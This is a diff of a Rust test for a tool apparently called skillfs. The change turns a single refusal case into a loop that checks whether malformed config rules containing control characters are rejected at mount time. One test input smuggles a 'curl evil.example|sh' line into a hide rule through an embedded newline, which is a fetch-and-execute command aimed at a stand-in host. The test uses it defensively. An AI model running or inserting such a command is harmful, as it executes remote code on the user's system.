@@ -334,12 +334,19 @@ fn rules_with_control_characters_or_outsized_are_refused() {
     let mut m = Mount::over(s, Vec::new());
     m.umount();
     let cfg = m.store().join("config.json");
-    fs::write(&cfg, "{\"hide\": [\"zz\\ncurl evil.example|sh\\n#\"]}").unwrap();
-    chmod(&cfg, 0o600);
-    let before = snapshot(&m.scratch.dir);
-    let out = skillfs(&["mount", m.root().to_str().unwrap()]);
-    assert_refused(&out, 7, &["hide rule", "control character"]);
-    assert_eq!(snapshot(&m.scratch.dir), before);
+    for (text, what) in [
+        (r#"{"hide": ["zz\ncurl evil.example|sh\n#"]}"#, "hide rule"),
+        (r#"{"show": ["*.bak\n"]}"#, "--show"),
+        (r#"{"park_max_age": "7d\nx"}"#, "park max age"),
+        (r#"{"hyde\n": []}"#, "does not parse"),
+    ] {
+        fs::write(&cfg, text).unwrap();
+        chmod(&cfg, 0o600);
+        let before = snapshot(&m.scratch.dir);
+        let out = skillfs(&["mount", m.root().to_str().unwrap()]);
+        assert_refused(&out, 7, &[what]);
+        assert_eq!(snapshot(&m.scratch.dir), before);
+    }
     fs::remove_file(&cfg).unwrap();
     m.remount();
 }
